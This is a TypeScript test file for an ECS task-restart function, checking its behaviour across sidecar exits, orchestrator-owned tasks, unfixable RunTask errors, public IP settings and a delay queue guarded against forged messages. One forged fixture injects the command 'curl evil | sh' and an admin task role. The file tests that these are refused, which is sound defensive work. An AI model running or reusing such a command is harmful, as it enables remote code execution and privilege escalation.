/**
 * The restart function against what a real account holds beyond the common case: finished jobs
 * with sidecars, tasks another orchestrator owns, RunTask refusals retrying cannot fix, public
 * IPs, and a delay queue only the function may write to. Each case runs the built bundle on the
 * simulator.
 */
import {
  DeregisterTaskDefinitionCommand,
  RegisterTaskDefinitionCommand,
} from '@aws-sdk/client-ecs';
import { SendMessageCommand, SQSClient } from '@aws-sdk/client-sqs';
import { afterEach, describe, expect, it } from 'vitest';
import {
  auditTypes,
  BASE_POLICY,
  DELAY_QUEUE,
  deliverDue,
  invoke,
  newTasks,
  openRestartAccount,
  queueUrl,
  type RestartAccount,
  runJob,
  SG,
  SUBNET,
  stopJob,
} from './support/restart-account.ts';

/** A job with an essential FireLens log router, as the FireLens examples declare it. */
const EXPORT_JOB = {
  family: 'export-job',
  networkMode: 'awsvpc' as const,
  containers: [
    { name: 'app', image: 'example/export-job', essential: true },
    {
      name: 'log_router',
      image: 'public.ecr.aws/aws-observability/aws-for-fluent-bit:stable',
      essential: true,
      firelensConfiguration: { type: 'fluentbit' },
    },
  ],
};

let account: RestartAccount;

afterEach(async () => {
  await account.close();
});

describe('restart scenario: a finished job with a sidecar', () => {
  it('leaves a job alone whose workload exited 0 and whose log router ECS stopped (143)', async () => {
    // Prepare
    account = await openRestartAccount({
      scenario: { clusters: ['batch'], taskDefinitions: [EXPORT_JOB] },
    });
    const job = await runJob(account, { taskDefinition: 'export-job' });
    const before = new Set(account.sim.account.tasks.keys());
    // Act: the job finishes; ECS stops the log router with SIGTERM.
    const [event] = stopJob(account, job, {
      stopCode: 'EssentialContainerExited',
      exitCodes: { app: 0 },
    });
    const answer = await invoke(account.handler, event);
    await deliverDue(account);
    // Assess
    expect(answer).toMatchObject({ action: 'skipped', reason: 'exited-cleanly' });
    expect(newTasks(account, before)).toEqual([]);
    expect(auditTypes(account)).toEqual([]);
  });

  it('still restarts the job when the log router failed first and ECS stopped the workload', async () => {
    // Prepare
    account = await openRestartAccount({
      scenario: { clusters: ['batch'], taskDefinitions: [EXPORT_JOB] },
    });
    const job = await runJob(account, { taskDefinition: 'export-job' });
    const before = new Set(account.sim.account.tasks.keys());
    // Act: the log router exits 0 on its own; ECS stops the job mid-work (143).
    const [event] = stopJob(account, job, {
      stopCode: 'EssentialContainerExited',
      exitCodes: { log_router: 0 },
    });
    const answer = await invoke(account.handler, event);
    await deliverDue(account);
    // Assess
    expect(answer).toMatchObject({ action: 'delayed', reason: 'retry-default' });
    expect(newTasks(account, before)).toHaveLength(1);
  });
});

/** A one-container job in the batch cluster and in a Batch compute environment's cluster. */
const JOB = {
  family: 'job',
  networkMode: 'awsvpc' as const,
  containers: [{ name: 'app', image: 'example/job', essential: true }],
};
const BATCH_CLUSTER = 'AWSBatch-genomics-ce-3c1f0a52-7d2e-3b4a-9c8d-1e2f3a4b5c6d';

describe('restart scenario: tasks another orchestrator started', () => {
  it.each([
    ['AWS Step Functions', 'step-functions', 'batch', 'skipped', 'orchestrator-owned', 0],
    ['AWS Batch', 'aws-batch', BATCH_CLUSTER, 'skipped', 'orchestrator-owned', 0],
    ['EventBridge Scheduler', 'eventbridge-scheduler', 'batch', 'delayed', 'retry-default', 1],
    ['an EventBridge rule', 'eventbridge-rule', 'batch', 'delayed', 'retry-default', 1],
  ] as const)('decides a failed task %s started: %s', async (_name, orchestrator, cluster, action, reason, restarts) => {
    // Prepare: every cluster selected, without includeOrchestrated.
    account = await openRestartAccount({
      scenario: { clusters: ['batch', BATCH_CLUSTER], taskDefinitions: [JOB] },
      policy: {
        ...BASE_POLICY,
        select: [{ cluster: '*', mode: 'on-failure' }],
        network: [{ cluster: '*', securityGroups: [SG], assignPublicIp: 'DISABLED' }],
      },
    });
    const job = await runJob(account, { taskDefinition: 'job', cluster }, orchestrator);
    const before = new Set(account.sim.account.tasks.keys());
    // Act
    const [event] = stopJob(account, job, { stopCode: 'EssentialContainerExited', exitCodes: 1 });
    const answer = await invoke(account.handler, event);
    await deliverDue(account);
    // Assess
    expect(answer).toMatchObject({ action, reason });
    expect(newTasks(account, before)).toHaveLength(restarts);
  });

  it('restarts a Step Functions task a rule opts in with includeOrchestrated', async () => {
    // Prepare
    account = await openRestartAccount({
      scenario: { clusters: ['batch'], taskDefinitions: [JOB] },
      policy: {
        ...BASE_POLICY,
        select: [
          { cluster: 'batch', family: 'job', mode: 'on-failure', includeOrchestrated: true },
        ],
      },
    });
    const job = await runJob(account, { taskDefinition: 'job' }, 'step-functions');
    const before = new Set(account.sim.account.tasks.keys());
    // Act
    const [event] = stopJob(account, job, { stopCode: 'EssentialContainerExited', exitCodes: 1 });
    await invoke(account.handler, event);
    await deliverDue(account);
    // Assess: one restart, started by ecs-autopilot.
    expect(newTasks(account, before).map((t) => t.startedBy)).toEqual(['ecs-autopilot']);
  });
});

describe('restart scenario: errors that retrying cannot fix', () => {
  it('abandons at once when the revision was deregistered before the delayed RunTask (ClientException)', async () => {
    // Prepare: the job fails, its restart waits in the delay queue; meanwhile a deploy
    // deregisters the revision.
    account = await openRestartAccount({
      scenario: { clusters: ['batch'], taskDefinitions: [JOB] },
    });
    const job = await runJob(account, { taskDefinition: 'job:1' });
    const [event] = stopJob(account, job, { stopCode: 'EssentialContainerExited', exitCodes: 1 });
    await invoke(account.handler, event);
    await account.ecs.send(new DeregisterTaskDefinitionCommand({ taskDefinition: 'job:1' }));
    const before = new Set(account.sim.account.tasks.keys());
    // Act
    const answer = await deliverDue(account);
    // Assess: one refused RunTask, no retry queued, the abandon audited with the error.
    expect(answer).toEqual({ batchItemFailures: [] });
    expect(newTasks(account, before)).toEqual([]);
    expect(account.sim.calls.count({ action: 'RunTask' })).toBe(2);
    expect(account.sim.sqs.nextDueAt(DELAY_QUEUE)).toBeUndefined();
    const [abandoned] = account.sim.account.putEvents;
    expect(abandoned).toMatchObject({
      detailType: 'Task Restart Abandoned',
      detail: {
        reason: 'run-task-rejected',
        failure: expect.stringMatching(/^ClientException: .*TaskDefinition is inactive/),
      },
    });
  });

  it('abandons at once when ECS refuses to pass the task role (AccessDeniedException)', async () => {
    // Prepare: an SCP-like gap: IAM lets the function pass only the job's own roles, and the task
    // was started with another task role.
    account = await openRestartAccount({
      scenario: {
        clusters: ['batch'],
        taskDefinitions: [JOB],
        identities: [
          {
            accessKeyId: 'simulator',
            arn: 'arn:aws:iam::123456789012:role/restart-task',
            passRoles: ['arn:aws:iam::123456789012:role/job-*'],
          },
        ],
      },
      env: { PASSABLE_ROLE_NAMES: '*' },
      policy: { ...BASE_POLICY, backoff: { ...BASE_POLICY.backoff, initialSeconds: 0 } },
    });
    const job = await runJob(account, {
      taskDefinition: 'job',
      overrides: { taskRoleArn: 'arn:aws:iam::123456789012:role/data-admin' },
    });
    const before = new Set(account.sim.account.tasks.keys());
    // Act: the first attempt runs at once (no backoff).
    const [event] = stopJob(account, job, { stopCode: 'EssentialContainerExited', exitCodes: 1 });
    const answer = await invoke(account.handler, event);
    await deliverDue(account);
    // Assess
    expect(answer).toMatchObject({
      action: 'abandoned',
      reason: 'run-task-rejected',
      failure: expect.stringMatching(
        /^AccessDeniedException: .*iam:PassRole on resource: arn:aws:iam::123456789012:role\/data-admin/,
      ),
    });
    expect(newTasks(account, before)).toEqual([]);
    expect(auditTypes(account)).toEqual(['Task Restart Abandoned']);
  });

  it('abandons a task whose secret does not exist at once, without a single RunTask', async () => {
    // Prepare
    account = await openRestartAccount({
      scenario: { clusters: ['batch'], taskDefinitions: [JOB] },
    });
    const job = await runJob(account, { taskDefinition: 'job' });
    const runTasks = account.sim.calls.count({ action: 'RunTask' });
    // Act: ECS could not fetch the secret the task definition names.
    const [event] = stopJob(account, job, {
      stopCode: 'TaskFailedToStart',
      reason:
        "ResourceInitializationError: unable to pull secrets or registry auth: execution resource retrieval failed: unable to retrieve secret from asm: service call has been retried 1 time(s): failed to fetch secret arn:aws:secretsmanager:us-east-1:123456789012:secret:job/db-AbCdEf from secrets manager: ResourceNotFoundException: Secrets Manager can't find the specified secret.",
    });
    const answer = await invoke(account.handler, event);
    await deliverDue(account);
    // Assess
    expect(answer).toMatchObject({ action: 'abandoned', reason: 'give-up-rule' });
    expect(account.sim.calls.count({ action: 'RunTask' })).toBe(runTasks);
    expect(auditTypes(account)).toEqual(['Task Restart Abandoned']);
  });

  it('skips a task whose EBS volume is configured at launch', async () => {
    // Prepare
    account = await openRestartAccount({ scenario: { clusters: ['batch'] } });
    await account.ecs.send(
      new RegisterTaskDefinitionCommand({
        family: 'scratch-job',
        networkMode: 'awsvpc',
        containerDefinitions: [{ name: 'app', image: 'example/job', essential: true }],
        volumes: [{ name: 'scratch', configuredAtLaunch: true }],
      }),
    );
    const job = await runJob(account, { taskDefinition: 'scratch-job' });
    const before = new Set(account.sim.account.tasks.keys());
    // Act
    const [event] = stopJob(account, job, { stopCode: 'EssentialContainerExited', exitCodes: 1 });
    const answer = await invoke(account.handler, event);
    await deliverDue(account);
    // Assess
    expect(answer).toMatchObject({ action: 'skipped', reason: 'volume-configured-at-launch' });
    expect(newTasks(account, before)).toEqual([]);
  });
});

describe('restart scenario: a public IP is never guessed', () => {
  const PUBLIC_SG = 'sg-0a1b2c3d4e5f6000b';

  async function failedRestart(
    policy: Record<string, unknown>,
    extra = {},
    launchType = 'FARGATE',
  ) {
    account = await openRestartAccount({
      scenario: { clusters: ['batch'], taskDefinitions: [JOB] },
      policy: { ...BASE_POLICY, backoff: { ...BASE_POLICY.backoff, initialSeconds: 0 }, ...policy },
    });
    const job = await runJob(account, {
      taskDefinition: 'job',
      launchType: launchType as 'FARGATE' | 'EC2',
      ...extra,
    });
    const before = new Set(account.sim.account.tasks.keys());
    const [event] = stopJob(account, job, { stopCode: 'EssentialContainerExited', exitCodes: 1 });
    const answer = await invoke(account.handler, event);
    await deliverDue(account);
    return { answer, restarted: newTasks(account, before) };
  }

  it('keeps the public IP the network rule gives (a public subnet without NAT)', async () => {
    const { restarted } = await failedRestart({
      network: [{ cluster: 'batch', securityGroups: [SG], assignPublicIp: 'ENABLED' }],
    });
    expect(restarted.map((t) => t.networkConfiguration?.awsvpcConfiguration)).toEqual([
      { subnets: [SUBNET], securityGroups: [SG], assignPublicIp: 'ENABLED' },
    ]);
  });

  it('takes groups and public IP together from the task tags, over the rule', async () => {
    const { restarted } = await failedRestart(
      { network: [{ cluster: 'batch', securityGroups: [SG], assignPublicIp: 'DISABLED' }] },
      {
        tags: [
          { key: 'ecs-autopilot:security-groups', value: PUBLIC_SG },
          { key: 'ecs-autopilot:assign-public-ip', value: 'ENABLED' },
        ],
      },
    );
    expect(restarted.map((t) => t.networkConfiguration?.awsvpcConfiguration)).toEqual([
      { subnets: [SUBNET], securityGroups: [PUBLIC_SG], assignPublicIp: 'ENABLED' },
    ]);
  });

  it('skips a Fargate task as network-unknown when nothing says whether it had a public IP', async () => {
    const { answer, restarted } = await failedRestart({
      network: [{ cluster: 'batch', securityGroups: [SG] }],
    });
    expect(answer).toMatchObject({ action: 'skipped', reason: 'network-unknown' });
    expect(restarted).toEqual([]);
  });

  it('abandons at once when ECS refuses a public IP on EC2 (InvalidParameterException)', async () => {
    const { answer, restarted } = await failedRestart(
      { network: [{ cluster: 'batch', securityGroups: [SG], assignPublicIp: 'ENABLED' }] },
      {},
      'EC2',
    );
    expect(answer).toMatchObject({
      action: 'abandoned',
      reason: 'run-task-rejected',
      failure: expect.stringMatching(
        /^InvalidParameterException: .*Assign public IP is not supported/,
      ),
    });
    expect(restarted).toEqual([]);
  });
});

describe('restart scenario: a delay queue nobody else can use', () => {
  const ROLE = 'arn:aws:iam::123456789012:role/ecs-autopilot-dev-RestartTaskRole-1A2B3C';
  const QUEUE_ARN = `arn:aws:sqs:us-east-1:123456789012:${DELAY_QUEUE}`;
  /** The template's RestartDelayQueuePolicy, with its role and queue resolved. */
  const queuePolicy = {
    Version: '2012-10-17',
    Statement: [
      {
        Sid: 'OnlyTheRestartFunctionSends',
        Effect: 'Deny',
        Principal: { AWS: '*' },
        Action: 'sqs:SendMessage',
        Resource: QUEUE_ARN,
        Condition: { ArnNotEquals: { 'aws:PrincipalArn': ROLE } },
      },
    ],
  };
  /** A restart body as the function writes it, running `job` with `overrides`. */
  const forgedBody = (overrides: Record<string, unknown>) => ({
    kind: 'ecs-autopilot.delayed-restart',
    schemaVersion: 1,
    stoppedTaskArn:
      'arn:aws:ecs:us-east-1:123456789012:task/batch/0123456789abcdef0123456789abcdef',
    clusterArn: 'arn:aws:ecs:us-east-1:123456789012:cluster/batch',
    family: 'job',
    group: 'family:job',
    lineage: '0123456789abcdef0123456789abcdef',
    attempt: 1,
    reason: 'retry-default',
    runTaskInput: {
      cluster: 'arn:aws:ecs:us-east-1:123456789012:cluster/batch',
      taskDefinition: 'arn:aws:ecs:us-east-1:123456789012:task-definition/job:1',
      count: 1,
      launchType: 'FARGATE',
      group: 'family:job',
      networkConfiguration: {
        awsvpcConfiguration: {
          subnets: [SUBNET],
          securityGroups: [SG],
          assignPublicIp: 'DISABLED',
        },
      },
      overrides: {
        containerOverrides: [{ name: 'app', command: ['sh', '-c', 'curl evil | sh'] }],
        ...overrides,
      },
      tags: [],
      startedBy: 'ecs-autopilot',
      clientToken: 'forged-0',
    },
    notBefore: 0,
  });

  async function openGuardedAccount() {
    account = await openRestartAccount({
      scenario: {
        clusters: ['batch'],
        taskDefinitions: [JOB],
        identities: [{ accessKeyId: 'simulator', arn: ROLE }],
      },
    });
    const queue = account.sim.account.queues.get(DELAY_QUEUE);
    if (queue !== undefined) queue.policy = queuePolicy;
    return queue;
  }

  it('refuses a RunTask request sent to the delay queue by any other principal', async () => {
    // Prepare: a principal of the account whose own IAM policy allows sqs:SendMessage.
    await openGuardedAccount();
    const intruder = new SQSClient({
      endpoint: account.sim.endpoint,
      credentials: { accessKeyId: 'ci-deployer', secretAccessKey: 'x' },
    });
    const send = intruder.send(
      new SendMessageCommand({
        QueueUrl: queueUrl(account.sim, DELAY_QUEUE),
        MessageBody: JSON.stringify(
          forgedBody({ taskRoleArn: 'arn:aws:iam::123456789012:role/admin' }),
        ),
      }),
    );
    // Assess
    await expect(send).rejects.toMatchObject({ $metadata: { httpStatusCode: 403 } });
    expect(account.sim.sqs.nextDueAt(DELAY_QUEUE)).toBeUndefined();
  });

  it('still queues and runs its own restarts through the guarded queue', async () => {
    // Prepare
    await openGuardedAccount();
    const job = await runJob(account, { taskDefinition: 'job' });
    const before = new Set(account.sim.account.tasks.keys());
    // Act
    const [event] = stopJob(account, job, { stopCode: 'EssentialContainerExited', exitCodes: 1 });
    const answer = await invoke(account.handler, event);
    await deliverDue(account);
    // Assess
    expect(answer).toMatchObject({ action: 'delayed' });
    expect(newTasks(account, before)).toHaveLength(1);
  });

  it('runs nothing from a body that got in before the policy: another role, or no longer selected', async () => {
    // Prepare: two bodies already on the queue (sent before the queue policy was set).
    const queue = await openGuardedAccount();
    if (queue !== undefined) queue.policy = undefined;
    const sqs = new SQSClient({
      endpoint: account.sim.endpoint,
      credentials: { accessKeyId: 'ci-deployer', secretAccessKey: 'x' },
    });
    const QueueUrl = queueUrl(account.sim, DELAY_QUEUE);
    const admin = forgedBody({ taskRoleArn: 'arn:aws:iam::123456789012:role/admin' });
    const other = {
      ...forgedBody({}),
      clusterArn: 'arn:aws:ecs:us-east-1:123456789012:cluster/prod',
    };
    other.runTaskInput.cluster = other.clusterArn;
    other.runTaskInput.clientToken = 'forged-1';
    await sqs.send(new SendMessageCommand({ QueueUrl, MessageBody: JSON.stringify(admin) }));
    await sqs.send(new SendMessageCommand({ QueueUrl, MessageBody: JSON.stringify(other) }));
    if (queue !== undefined) queue.policy = queuePolicy;
    const before = new Set(account.sim.account.tasks.keys());
    // Act
    const answer = await deliverDue(account);
    // Assess: both handled and dropped; the role one audited as abandoned.
    expect(answer).toEqual({ batchItemFailures: [] });
    expect(newTasks(account, before)).toEqual([]);
    expect(account.sim.calls.count({ action: 'RunTask' })).toBe(0);
    expect(
      account.sim.account.putEvents.map((e) => (e.detail as { reason: string }).reason),
    ).toEqual(['role-not-passable']);
  });
});
